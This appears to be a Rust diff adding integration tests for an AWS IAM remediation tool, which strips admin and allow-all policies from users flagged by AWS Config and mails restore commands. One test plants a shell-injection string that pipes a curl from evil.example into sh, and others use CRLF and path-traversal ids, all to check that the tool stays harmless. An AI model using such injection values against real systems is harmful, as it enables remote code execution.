@@ -22,7 +22,7 @@ use rules::iam_user::{CONTAINMENT, DENY_EVERYTHING};
 use runtime::Verdict::{Exempt, Ignored, Resent, Unreadable, Violation};
 use sandbox::{CERTIFICATE, Fault, StandIn, StandInOptions};
 use serde_json::{Value, json};
-use tests::{ACCOUNT, DEVELOPER, Process, Ran, Stage, event, expected, publish, refused, unique};
+use tests::{ACCOUNT, DEVELOPER, Process, Ran, Stage, config_finding, event, expected, publish, refused, unique};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::{TcpListener, TcpStream};
 use tokio::task::JoinHandle;
@@ -1710,4 +1710,310 @@ async fn taking_mfa_from_a_user_is_told_unless_the_user_goes() {
     let ran = scene.stage.run(&process, &changed(again(&deleted, "later"), "/detail/eventTime", later)).await;
     ran.is(Violation, &[Alert], &[publish()]);
     scene.run(&deleted).await.is(Violation, &[Alert], &[publish()]);
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Findings of AWS Config
+
+const NO_POLICIES: &str = "IAM_USER_NO_POLICIES_CHECK";
+const REVERT_FINDINGS: &[(&str, &str)] = &[("CONFIG_FINDINGS", "revert")];
+
+/// A user, and a rule of AWS Config of its own.
+struct Found {
+    scene: Scene,
+    id: String,
+    rule: String,
+}
+
+impl Found {
+    async fn new() -> Self {
+        Self::of(Scene::new().await).await
+    }
+
+    async fn of(scene: Scene) -> Self {
+        scene.create_user().await;
+        let id = scene.user_id().await.unwrap();
+        let rule = format!("securityhub-users-{}", unique());
+        scene.stage.config_rule(&rule, NO_POLICIES, None).await;
+        Self { scene, id, rule }
+    }
+
+    fn finding(&self) -> Value {
+        config_finding(&self.rule, "AWS::IAM::User", &self.id)
+    }
+
+    async fn run(&self, settings: &[(&str, &str)]) -> Ran {
+        self.scene.stage.run(&self.scene.process(settings), &self.finding()).await
+    }
+
+    fn identify(&self) -> String {
+        described(&self.rule)
+    }
+
+    /// The look at the user and at its policies, of which there are these.
+    fn look(&self, attached: &[&str], inline: &[&str]) -> Vec<String> {
+        let lists = ["GetUser", "ListAttachedUserPolicies", "ListUserPolicies"];
+        let inline = inline.iter().map(|name| self.scene.call("GetUserPolicy", &[("PolicyName", name)]));
+        lists.iter().map(|action| self.scene.call(action, &[])).chain(inline).chain(documents(attached)).collect()
+    }
+}
+
+/// The question for what is behind a rule's name.
+fn described(rule: &str) -> String {
+    expected("DescribeConfigRules", &[("ConfigRuleNames", &json!([rule]).to_string())])
+}
+
+/// The look at policies of AWS's.
+fn documents(arns: &[&str]) -> Vec<String> {
+    let version = |arn: &str| if arn == ADMINISTRATOR { "v1" } else { "" };
+    let of = |arn: &&str| {
+        let get = expected("GetPolicy", &[("PolicyArn", arn)]);
+        [get, expected("GetPolicyVersion", &[("PolicyArn", arn), ("VersionId", version(arn))])]
+    };
+    arns.iter().flat_map(of).collect()
+}
+
+#[tokio::test]
+async fn all_policies_of_its_own_go_that_allow_something_and_no_others() {
+    let found = Found::new().await;
+    let scene = &found.scene;
+    scene.attach(ADMINISTRATOR).await;
+    scene.attach(QUARANTINE).await;
+    scene.put("backdoor", ALLOW_ALL).await;
+    scene.put("another", DENY_S3).await;
+    scene.put(CONTAINMENT, DENY_EVERYTHING).await;
+    scene.create_password().await;
+    let key = scene.create_key().await;
+    let group = scene.join_group().await;
+    let boundary = scene.iam.put_user_permissions_boundary().user_name(&scene.name).permissions_boundary(READ_ONLY);
+    boundary.send().await.unwrap();
+    let ran = found.run(REVERT_FINDINGS).await;
+    let inline = [CONTAINMENT, "another", "backdoor"];
+    ran.is_in_rounds(
+        Violation,
+        &[Reverted],
+        &[
+            vec![found.identify()],
+            vec![list_users()],
+            found.look(&[ADMINISTRATOR], &inline),
+            vec![
+                scene.call("DeleteUserPolicy", &[("PolicyName", "backdoor")]),
+                scene.call("DetachUserPolicy", &[("PolicyArn", ADMINISTRATOR)]),
+            ],
+            found.look(&[], &inline[..2]),
+            vec![publish()],
+        ],
+    );
+    ran.mail_says(&[
+        &format!("policies taken off IAM user: {}", scene.name),
+        "non-compliant.",
+        "  - attached: arn:aws:iam::aws:policy/AdministratorAccess",
+        "  - inline: backdoor",
+        "Detached policy arn:aws:iam::aws:policy/AdministratorAccess.",
+        &format!("aws iam put-user-policy --user-name {} --policy-name backdoor --policy-document '{{", scene.name),
+        &format!("aws iam attach-user-policy --user-name {} --policy-arn {ADMINISTRATOR}", scene.name),
+        "Not known: the finding does not tell.",
+    ]);
+    // What the mail says puts the policy back.
+    let body = &ran.mail().body;
+    let document = body.lines().find_map(|line| line.split_once("--policy-document '")?.1.strip_suffix('\''));
+    assert_eq!(rules::policy::parse(&json!(document)).unwrap(), rules::policy::parse(&json!(ALLOW_ALL)).unwrap());
+    assert_eq!((scene.attached().await, scene.inline().await.len()), (vec![QUARANTINE.to_owned()], 2));
+    assert!(scene.has_password().await && scene.has_active_key().await && scene.is_denied().await, "{key}");
+    let user = scene.iam.get_user().user_name(&scene.name).send().await.unwrap().user.unwrap();
+    assert_eq!(user.permissions_boundary.unwrap().permissions_boundary_arn.as_deref(), Some(READ_ONLY));
+    let groups = scene.iam.list_groups_for_user().user_name(&scene.name).send().await.unwrap().groups;
+    assert_eq!(groups.iter().map(|group| group.group_name.as_str()).collect::<Vec<_>>(), [group.as_str()]);
+}
+
+#[tokio::test]
+async fn findings_are_only_told_unless_both_settings_say_otherwise() {
+    let found = Found::new().await;
+    let scene = &found.scene;
+    scene.attach(ADMINISTRATOR).await;
+    scene.put("backdoor", ALLOW_ALL).await;
+    let calls =
+        [vec![found.identify(), list_users()], found.look(&[ADMINISTRATOR], &["backdoor"]), vec![publish()]].concat();
+    for (settings, why) in [
+        (vec![], "because ConfigFindings is `alert`"),
+        (vec![("CONFIG_FINDINGS", "revert"), ("IAM_USER_MODE", "alert")], "because IamUserMode is `alert`"),
+        (vec![("CONFIG_FINDINGS", "revert"), ("ROLLOUT", "observe")], "because Rollout is `observe`"),
+    ] {
+        let ran = found.run(&settings).await;
+        ran.is(Violation, &[Alert], &calls);
+        ran.mail_says(&[
+            why,
+            &format!("aws iam detach-user-policy --user-name {} --policy-arn {ADMINISTRATOR}", scene.name),
+            &format!("aws iam delete-user-policy --user-name {} --policy-name backdoor", scene.name),
+        ]);
+    }
+    assert_eq!(
+        (scene.attached().await, scene.inline().await),
+        (vec![ADMINISTRATOR.to_owned()], vec!["backdoor".to_owned()])
+    );
+    let ran = found.run(&[("CONFIG_FINDINGS", "revert"), ("IAM_USER_MODE", "off")]).await;
+    ran.is(Ignored, &[], &[]);
+}
+
+/// The other user's name is the id that is looked for.
+#[tokio::test]
+async fn the_right_user_is_found_by_its_id_on_the_third_page() {
+    let options = StandInOptions { page_size: NonZeroU32::new(1) };
+    let stand_in = StandIn::start_with(options, &mut |_| {}).unwrap();
+    let mut found = Found::of(Scene::of(Stage::on(&stand_in).await)).await;
+    let iam = found.scene.iam.clone();
+    let others = [found.id.clone(), "bob".to_owned()];
+    for other in &others {
+        iam.create_user().user_name(other).send().await.unwrap();
+        iam.attach_user_policy().user_name(other).policy_arn(ADMINISTRATOR).send().await.unwrap();
+    }
+    // The stand-in lists last whoever got its name last.
+    found.scene.rename("zoe").await;
+    found.scene.name = "zoe".to_owned();
+    found.scene.attach(ADMINISTRATOR).await;
+    let ran = found.run(REVERT_FINDINGS).await;
+    ran.mail_says(&["REVERTED: policies taken off IAM user: zoe"]);
+    assert_eq!(ran.told().iter().filter(|call| call.starts_with("ListUsers")).count(), 3, "{:#?}", ran.told());
+    assert_eq!(found.scene.attached().await, Vec::<String>::new());
+    for other in &others {
+        let left = iam.list_attached_user_policies().user_name(other).send().await.unwrap();
+        assert_eq!(left.attached_policies().len(), 1, "{other}");
+    }
+}
+
+#[tokio::test]
+async fn what_cloudtrail_told_before_is_not_told_again() {
+    let found = Found::new().await;
+    let event = found.scene.attach(ADMINISTRATOR).await;
+    let process = found.scene.process(REVERT_FINDINGS);
+    found.scene.stage.run(&process, &event).await.mail_says(&["REVERTED"]);
+    let calls = [vec![found.identify(), list_users()], found.look(&[], &[])].concat();
+    found.scene.stage.run(&process, &found.finding()).await.is(Ignored, &[], &calls);
+    // Known by now; and once more the same.
+    let again = found.scene.stage.run(&process, &found.finding()).await;
+    again.is(Ignored, &[], &calls[1..]);
+}
+
+#[tokio::test]
+async fn a_user_that_is_gone_or_fine_is_not_told() {
+    let found = Found::new().await;
+    found.scene.put("another", DENY_S3).await;
+    let calls = [vec![found.identify(), list_users()], found.look(&[], &["another"])].concat();
+    found.run(REVERT_FINDINGS).await.is(Ignored, &[], &calls);
+    found.scene.iam.delete_user_policy().user_name(&found.scene.name).policy_name("another").send().await.unwrap();
+    found.scene.delete_user().await;
+    found.run(REVERT_FINDINGS).await.is(Ignored, &[], &[found.identify(), list_users()]);
+}
+
+#[tokio::test]
+async fn only_its_own_rule_is_for_the_function() {
+    let found = Found::new().await;
+    found.scene.attach(ADMINISTRATOR).await;
+    for identifier in ["ACCESS_KEYS_ROTATED", "IAM_USER_MFA_ENABLED", "IAM_USER_GROUP_MEMBERSHIP_CHECK"] {
+        let rule = format!("iam-user-no-policies-check-{}", unique());
+        let parameters = (identifier == "ACCESS_KEYS_ROTATED").then_some(r#"{"maxAccessKeyAge":"90"}"#);
+        found.scene.stage.config_rule(&rule, identifier, parameters).await;
+        let finding = config_finding(&rule, "AWS::IAM::User", &found.id);
+        let ran = found.scene.stage.run(&found.scene.process(REVERT_FINDINGS), &finding).await;
+        ran.is(Ignored, &[], &[described(&rule)]);
+    }
+    for compliance in ["COMPLIANT", "NOT_APPLICABLE", "INSUFFICIENT_DATA"] {
+        let finding = changed(found.finding(), "/detail/newEvaluationResult/complianceType", json!(compliance));
+        let ran = found.scene.stage.run(&found.scene.process(REVERT_FINDINGS), &finding).await;
+        ran.is(Ignored, &[], &[]);
+    }
+    assert_eq!(found.scene.attached().await, [ADMINISTRATOR]);
+}
+
+#[tokio::test]
+async fn what_is_no_users_id_is_told_and_nobody_is_looked_for() {
+    let found = Found::new().await;
+    for resource in ["AIDA", "eve\r\nREVERTED", "../AIDAQRSTUVWXYZEXAMPLE", &"AIDA".repeat(2_500)] {
+        let finding = config_finding(&found.rule, "AWS::IAM::User", resource);
+        let ran = found.scene.stage.run(&found.scene.process(REVERT_FINDINGS), &finding).await;
+        ran.is(Unreadable, &[Alert], &[found.identify(), publish()]);
+        ran.mail_says(&["`resourceId` in `detail` is not the id of an IAM user", "Look at the resource"]);
+        assert!(ran.mail().body.len() < 4_000, "{}", ran.mail().body);
+    }
+}
+
+#[tokio::test]
+async fn what_is_refused_is_told_and_tried_again() {
+    let found = Found::new().await;
+    let scene = &found.scene;
+    scene.attach(ADMINISTRATOR).await;
+    scene.put("backdoor", ALLOW_ALL).await;
+    scene.deny("DetachUserPolicy", 1);
+    let ran = found.run(REVERT_FINDINGS).await;
+    assert!(ran.handled.error.is_some(), "{ran:#?}");
+    ran.mail_says(&[
+        "FAILED - ACT NOW: policies may still be on IAM user",
+        "`DetachUserPolicy` failed: AccessDenied",
+        "Deleted inline policy backdoor.",
+        "--policy-name backdoor --policy-document '{",
+    ]);
+    assert_eq!((scene.attached().await, scene.inline().await.len()), (vec![ADMINISTRATOR.to_owned()], 0));
+    for (action, said) in [("ListUsers", "could not be read"), ("GetPolicyVersion", "could not be read")] {
+        scene.deny(action, 1);
+        let ran = found.run(REVERT_FINDINGS).await;
+        ran.mail_says(&["FAILED - ACT NOW", said, &format!("`{action}` failed: AccessDenied")]);
+        assert_eq!(scene.attached().await, [ADMINISTRATOR]);
+    }
+    found.run(REVERT_FINDINGS).await.mail_says(&["REVERTED"]);
+    assert_eq!(scene.attached().await, Vec::<String>::new());
+}
+
+/// The name is another's by the time that it is looked at.
+#[tokio::test]
+async fn a_user_that_is_renamed_meanwhile_is_found_again() {
+    let found = Found::new().await;
+    let scene = &found.scene;
+    scene.attach(ADMINISTRATOR).await;
+    let new = format!("{}-new", scene.name);
+    let (iam, old) = (&scene.iam, &scene.name);
+    scene.stage.inject(Fault { code: None, delay_seconds: 1.0, ..Fault::new("", "GetUser", "") });
+    let process = scene.process(REVERT_FINDINGS);
+    let finding = found.finding();
+    let rename = async {
+        while !scene.stage.all_calls().iter().any(|call| call.action == "GetUser") {
+            sleep(Duration::from_millis(20)).await;
+        }
+        scene.rename(&new).await;
+        iam.create_user().user_name(old).send().await.unwrap();
+        iam.attach_user_policy().user_name(old).policy_arn(READ_ONLY).send().await.unwrap();
+    };
+    let ran = tokio::join!(scene.stage.run(&process, &finding), rename).0;
+    ran.mail_says(&["REVERTED", &format!("policies taken off IAM user: {new}")]);
+    assert_eq!(scene.attached().await, [READ_ONLY]);
+    let left = iam.list_attached_user_policies().user_name(&new).send().await.unwrap();
+    assert_eq!(left.attached_policies().len(), 0);
+}
+
+/// Whatever a document says, a shell does nothing of it, and it comes back as it was.
+#[tokio::test]
+async fn a_hostile_document_is_kept_harmless_and_whole() {
+    let found = Found::new().await;
+    let scene = &found.scene;
+    let sid = "'; curl evil.example | sh; '\u{202e}";
+    let statement =
+        json!({"Effect": "Allow", "Action": "s3:*", "Resource": "*", "Condition": {"StringEquals": {"aws:x": sid}}});
+    let hostile = json!({"Version": "2012-10-17", "Statement": [statement]});
+    let long: Vec<Value> = (0..12)
+        .map(|n| {
+            json!({"Sid": format!("s{n}"), "Effect": "Allow", "Action": "s3:GetObject",
+        "Resource": format!("arn:aws:s3:::{n}{}/*", "b".repeat(66))})
+        })
+        .collect();
+    let long = json!({"Version": "2012-10-17", "Statement": long});
+    scene.put("hostile", &hostile.to_string()).await;
+    scene.put("long", &long.to_string()).await;
+    let ran = found.run(REVERT_FINDINGS).await;
+    ran.mail_says(&["REVERTED"]);
+    let body = &ran.mail().body;
+    assert!(!body.contains("'; curl") && !body.contains('\u{202e}'), "{body}");
+    let command = body.lines().find_map(|line| line.split_once("--policy-document '")?.1.strip_suffix('\'')).unwrap();
+    assert_eq!(serde_json::from_str::<Value>(command).unwrap(), hostile);
+    let lines = body.lines().skip_while(|line| !line.ends_with("where policy.json is:")).skip(1);
+    let document: Vec<&str> = lines.take_while(|line| !line.is_empty() && !line.contains("aws iam")).collect();
+    assert_eq!(serde_json::from_str::<Value>(&document.join("\n")).unwrap(), long, "{body}");
 }
